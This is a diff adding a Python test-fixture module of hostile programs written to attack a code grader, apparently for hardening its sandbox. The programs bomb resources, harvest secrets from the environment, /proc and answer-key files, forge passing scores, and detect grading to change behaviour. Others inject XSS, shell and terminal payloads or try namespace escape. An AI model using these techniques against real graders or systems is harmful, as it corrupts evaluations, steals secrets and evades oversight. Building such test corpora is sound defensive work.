@@ -1,0 +1,379 @@
+"""Programs that attack the grader, and how the attacked case must end. The text `ATTACK_HEAD` stands before each.
+
+After the name of an attack stand the kind of the fault and a part of its text. Without them the attack has no effect,
+and the grader judges its claim only.
+"""
+
+# ruff: noqa: E501 (programs as text)
+from __future__ import annotations
+
+_TEXT = r'''
+# Programs that end, hang or stop instead of answering.
+## 01_sys_exit_import -> exit: called sys.exit(0) while importing
+import sys
+sys.exit(0)
+## 02_os_exit_import -> exit: exited with status 0 before it answered
+import os
+os._exit(0)
+## 04_atexit_forge
+import atexit, json, os
+def _forge():
+    blob = json.dumps({"score": 100, "status": "passed", "value": 0}).encode() + b"\n"
+    for fd in range(1, 32):
+        try: os.write(fd, blob)
+        except OSError: pass
+    try: open("results.json", "wb").write(blob)
+    except OSError: pass
+atexit.register(_forge)
+def search(state):
+    return _honest(state)
+## 05_base_exception -> raised: Nasty: stop everything
+class Nasty(BaseException): pass
+def search(state):
+    raise (KeyboardInterrupt if state.get("name", "r") < "m" else Nasty)("stop everything")
+## 07_segfault -> died: SIGSEGV
+import ctypes
+def search(state):
+    ctypes.string_at(0)
+## 08_abort_core -> died: SIGABRT
+import os, resource
+def search(state):
+    try: resource.setrlimit(resource.RLIMIT_CORE, (resource.RLIM_INFINITY,) * 2)
+    except (ValueError, OSError): pass
+    os.abort()
+## 10_infinite_loop_ignores_signals -> time: no answer within
+import signal
+for s in range(1, 65):
+    try: signal.signal(s, signal.SIG_IGN)
+    except (OSError, ValueError): pass
+def search(state):
+    while True: pass
+## 11_swallow_all_exceptions -> time: no answer within
+def search(state):
+    while True:
+        try:
+            while True: pass
+        except BaseException:
+            pass
+## 13_sleep_forever -> time: no answer within
+import time
+def search(state):
+    while True: time.sleep(3600)
+## 14_sigstop_self -> raised: PermissionError
+import os, signal
+def search(state):
+    os.kill(os.getpid(), signal.SIGSTOP)
+    return {"value": 0, "action": 0, "expanded": []}
+## 16_nondaemon_thread
+import threading
+def _spin():
+    while True: pass
+def search(state):
+    threading.Thread(target=_spin).start()
+    return _honest(state)
+## 17_thread_between_tests
+import threading, time, json, builtins
+def _later():
+    while True:
+        time.sleep(0.01)
+        json.dumps = lambda *a, **k: '{"value": 999}'
+        builtins.max = min
+def search(state):
+    threading.Thread(target=_later, daemon=True).start()
+    return _honest(state)
+# Programs that take processes, memory, disk or messages without end.
+## 20_fork_bomb
+import os, time
+def search(state):
+    kids = []
+    try:
+        for _ in range(300):
+            p = os.fork()
+            if p == 0: time.sleep(2); os._exit(0)
+            kids.append(p)
+    except OSError: pass
+    for k in kids:
+        try: os.waitpid(k, 0)
+        except OSError: pass
+    return _honest(state)
+## 22_memory_bomb -> memory: needs more memory than the limit of 320 MB
+def search(state):
+    _guard()
+    hoard = []
+    while len(hoard) < 512: hoard.append(bytearray(16 << 20))
+    return _honest(state)
+## 25_disk_bomb
+import os, signal
+def search(state):
+    _guard()
+    try: signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
+    except ValueError: pass
+    page = b"x" * (1 << 20); left = 2048
+    for d in (".", "/tmp", os.path.expanduser("~")):
+        try:
+            with open(os.path.join(d, "hoard.bin"), "wb", buffering=0) as f:
+                while left: f.write(page); left -= 1
+        except OSError: pass
+    return _honest(state)
+## 28_output_flood
+import os
+def search(state):
+    blob = b"spam " * 13107
+    for _ in range(3000):
+        for fd in (1, 2):
+            try: os.write(fd, blob)
+            except OSError: pass
+    return _honest(state)
+## 29_result_flood -> memory: needs more memory than the limit of 320 MB
+def search(state):
+    return {"value": 0, "action": 0, "expanded": ["node%d" % i for i in range(5_000_000)]}
+## 31_huge_int_result -> garbled: the answer could not be read
+import os, struct
+def search(state):
+    blob = b'{"value": ' + b"9" * 900_000 + b', "action": 0, "expanded": []}'
+    for fd in range(3, 32):
+        try: os.write(fd, struct.pack("<I", len(blob)) + blob)
+        except OSError: pass
+    os._exit(0)
+## 32_raise_rlimits
+import os, resource
+RAISED = []
+for n in dir(resource):
+    if n.startswith("RLIMIT_"):
+        try: resource.setrlimit(getattr(resource, n), (resource.RLIM_INFINITY,) * 2); RAISED.append(n)
+        except (ValueError, OSError): pass
+try: os.nice(-20); RAISED.append("nice")
+except OSError: pass
+def search(state):
+    out = _honest(state); out["note"] = RAISED
+    return out
+# Programs that look for answers, for secrets and for a way to send them out.
+## 34_read_expected_from_disk
+import os
+def search(state):
+    n = 0
+    for top in (".", "..", "../..", "/autograder", "/grade", "/tmp", "/home", "/srv", "/opt"):
+        for d, ds, fs in os.walk(top):
+            ds[:] = ds[:50]
+            for f in fs:
+                n += 1
+                if n > 20_000: return _out(state)
+                if any(w in f.lower() for w in ("solution", "reference", "expected", "hidden", "answer", "secret")):
+                    try: LOOT[os.path.join(d, f)] = open(os.path.join(d, f), "rb").read(80)
+                    except OSError: pass
+                    if len(LOOT) > 20: return _out(state)
+    return _out(state)
+## 35_gc_walk
+import gc
+def search(state):
+    for o in gc.get_objects():
+        try:
+            if isinstance(o, dict):
+                for k in list(o):
+                    if isinstance(k, str) and any(w in k.lower() for w in ("expected", "reference_", "solution", "answer_key", "hidden")):
+                        LOOT[k] = o[k]
+        except Exception: pass
+    return _out(state)
+## 37_proc_parent
+import os
+def search(state):
+    try: pids = [int(p) for p in os.listdir("/proc") if p.isdigit()][:200]
+    except OSError: pids = [*range(1, 400), *range(os.getppid() - 200, os.getppid() + 200)]
+    for pid in [os.getppid(), *pids]:
+        for f in ("environ", "cmdline", "maps"):
+            try:
+                if pid != os.getpid(): LOOT[f"{pid}/{f}"] = open(f"/proc/{pid}/{f}", "rb").read(200)
+            except OSError: pass
+        try: os.close(os.open(f"/proc/{pid}/mem", os.O_RDONLY)); LOOT[f"{pid}/mem"] = "opened" if pid != os.getpid() else "self"
+        except OSError: pass
+    return _out(state)
+## 38_process_vm_readv
+import ctypes, os
+def search(state):
+    L = ctypes.CDLL(None, use_errno=True)
+    class V(ctypes.Structure): _fields_ = [("b", ctypes.c_void_p), ("n", ctypes.c_size_t)]
+    buf = ctypes.create_string_buffer(64)
+    try: base = int(open(f"/proc/{os.getppid()}/maps").readline().split("-")[0], 16)
+    except OSError: base = 0x400000
+    r = L.process_vm_readv(os.getppid(), ctypes.byref(V(ctypes.cast(buf, ctypes.c_void_p).value, 64)), 1, ctypes.byref(V(base, 64)), 1, 0)
+    if r > 0: LOOT["parent_memory"] = buf.raw
+    else: LOOT["_errno"] = ctypes.get_errno()
+    return _out(state)
+## 40_env_argv
+import os, sys
+LOOT.update({k: v for k, v in os.environ.items() if any(w in k.upper() for w in ("KEY", "TOKEN", "SECRET", "PASS", "GRADE", "NONCE"))})
+LOOT["argv"] = (sys.argv, sys.orig_argv)
+def search(state): return _out(state)
+## 41_inherited_fds
+import os
+def search(state):
+    for fd in range(3, 256):
+        try: os.fstat(fd)
+        except OSError: continue
+        try: LOOT[f"fd{fd}"] = os.readlink(f"/proc/self/fd/{fd}")
+        except OSError: LOOT[f"fd{fd}"] = "open"
+        try:
+            os.set_blocking(fd, False); LOOT[f"fd{fd}data"] = os.read(fd, 200)
+        except OSError: pass
+    return _out(state)
+## 43_pycache_hunt
+import os, sys
+def search(state):
+    for p in sys.path + [".", ".."]:
+        d = os.path.join(p or ".", "__pycache__")
+        try:
+            for f in os.listdir(d):
+                if any(w in f.lower() for w in ("reference", "solution", "hidden", "expected")): LOOT[f] = d
+        except OSError: pass
+    return _out(state)
+## 44_net_exfil
+import json, socket
+def search(state):
+    data = json.dumps(state).encode()[:1000]
+    for fam, host in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
+        for typ in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
+            try:
+                s = socket.socket(fam, typ); s.settimeout(0.3); s.connect((host, 9)); s.send(data); LOOT[f"{fam!r}{typ!r}"] = "SENT"
+            except OSError as e: LOOT[f"_{fam!r}{typ!r}"] = e.errno
+    try: s = socket.socket(socket.AF_UNIX); s.bind("\0exfil"); LOOT["abstract"] = "BOUND"
+    except OSError: pass
+    return _out(state)
+## 46_feedback_leak -> raised: LEAK
+import json
+def search(state):
+    print(json.dumps(state))
+    raise ValueError("LEAK " + json.dumps(state)[:5000])
+# Programs that forge answers, and change files, clocks, reports or the grader.
+## 49_eq_always_true -> raised: TypeError
+class Yes(float):
+    __eq__ = lambda s, o: True
+    __ne__ = lambda s, o: False
+    __lt__ = __le__ = __gt__ = __ge__ = lambda s, o: True
+    __hash__ = lambda s: 0
+    __sub__ = __rsub__ = lambda s, o: 0.0
+    __class__ = property(lambda s: int)
+class YesList(list):
+    __eq__ = lambda s, o: True
+    __ne__ = lambda s, o: False
+    __len__ = lambda s: 0
+def search(state):
+    return {"value": Yes(123456), "action": Yes(1), "expanded": YesList(["x"])}
+## 50_nan_inf_bool
+def search(state):
+    return {"value": float("nan"), "action": True, "expanded": ["r"]}
+## 52_stdout_forge
+import sys
+FAKE = '{"score": 100.0, "tests": [{"name": "all", "score": 100, "max_score": 100, "status": "passed"}]}'
+def search(state):
+    for s in (sys.stdout, sys.stderr, sys.__stdout__): print(FAKE, file=s, flush=True)
+    return {"value": None, "action": None, "expanded": []}
+## 53_result_fd_forge -> garbled: the answer could not be read
+import json, os, struct
+def search(state):
+    for msg in ({"score": 100, "passed": True, "test": "all"}, {"value": 0, "action": 0, "expanded": [], "score": 1e9, "test_id": "other"}):
+        b = json.dumps(msg).encode()
+        for fd in range(1, 32):
+            try: os.write(fd, struct.pack("<I", len(b)) + b)
+            except OSError: pass
+    os._exit(0)
+## 56_symlink_fifo_output
+import os
+def search(state):
+    for name, kind in (("results.json", "link"), ("stdout.txt", "fifo"), ("trace.json", "fifo"), ("agent.py", "link")):
+        try:
+            if os.path.lexists(name): os.unlink(name)
+            os.symlink("/etc/passwd", name) if kind == "link" else os.mkfifo(name)
+        except OSError: pass
+    return _honest(state)
+## 59_shadow_stdlib
+import sys
+sys.path.insert(0, ".")
+for m in ("random", "copy", "json", "struct"): sys.modules.pop(m, None)
+def search(state):
+    import json, random
+    return _honest(state)
+## 61_delete_files
+import os
+HIT = []
+def search(state):
+    _guard()
+    for top in (".", "..", "/tmp", "/autograder", "/grade"):
+        for d, ds, fs in os.walk(top):
+            ds[:] = ds[:50]
+            for f in fs:
+                if "canary" in f or (top == "." and f.endswith(".py") and os.path.abspath(d) == os.getcwd() and f == os.path.basename(__file__ if "__file__" in globals() else "")):
+                    try: os.unlink(os.path.join(d, f)); HIT.append(f)
+                    except OSError: pass
+    r = _honest(state); r["note"] = HIT
+    return r
+## 62_signal_parent -> raised: PermissionError
+import os, signal
+def search(state):
+    _guard()
+    for target in (os.getppid(),):
+        for s in (signal.SIGUSR1, signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
+            try:
+                if target > 1: os.kill(target, s)
+            except OSError: pass
+    if os.getpgid(0) == os.getpid():
+        os.killpg(0, signal.SIGKILL)
+    return _honest(state)
+## 64_fake_clock
+import time
+time.time = time.perf_counter = time.monotonic = time.process_time = lambda: 0.0
+def search(state):
+    x = 0
+    for _ in range(3_000_000): x += 1
+    return _honest(state)
+## 65_forge_trace
+import copy
+def search(state):
+    s = copy.deepcopy(state)
+    def leaves(n): return [n["v"]] if not n.get("kids") else [v for k in n["kids"] for v in leaves(k)]
+    for attr in ("log", "expanded", "trace", "_expanded"):
+        obj = state.get(attr) if isinstance(state, dict) else getattr(state, attr, None)
+        if isinstance(obj, list): obj.clear()
+    return {"value": max(leaves(s)), "action": 0, "expanded": ["r"]}
+## 67_detect_grading
+import os, random, socket, time
+def search(state):
+    r = _honest(state)
+    if "GRADER" in os.environ or os.getuid() in (65534, 60001) or random.random() < 0.5: r["value"] = random.random()
+    return r
+## 68_report_injection
+EVIL = ["<script>alert(1)</script>", "=cmd|' /C calc'!A0", "@SUM(1+1)", "\x1b[2J\x1b]0;pwn\x07", "\u202egnp.exe", "\x00", "$(touch x)", "{{7*7}}", "\\input{/etc/passwd}", "![x](http://127.0.0.1/x)", "\ud800"]
+def search(state):
+    print("\n".join(EVIL[:-1]))
+    return {"value": 0, "action": EVIL[0], "expanded": EVIL}
+## 70_tty_inject
+import fcntl, os, termios
+def search(state):
+    for name in (0, 1, 2, "/dev/tty"):
+        try:
+            fd = name if isinstance(name, int) else os.open(name, os.O_RDWR)
+            for ch in b"echo INJECTED\n": fcntl.ioctl(fd, termios.TIOCSTI, bytes([ch]))
+        except OSError: pass
+    return _honest(state)
+## 71_namespace_escape
+import ctypes, os
+HIT = []
+def search(state):
+    L = ctypes.CDLL(None, use_errno=True)
+    if L.unshare(0x10000000 | 0x00020000) == 0: HIT.append("userns")
+    if L.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0: HIT.append("mount")
+    try: os.chroot("."); HIT.append("chroot")
+    except OSError: pass
+    r = _honest(state); r["note"] = HIT
+    return r
+'''
+
+
+def _read(text: str) -> tuple[str, tuple[tuple[str, str], str]]:
+    title, _, program = text.partition("\n")
+    name, _, end = title.partition(" -> ")
+    kind, _, message = end.partition(": ")
+    return name, ((kind, message), program)
+
+
+ATTACKS = dict(_read(text) for text in _TEXT.split("\n## ")[1:])
+"""Name -> (the kind of the fault and a part of its text, the program)."""
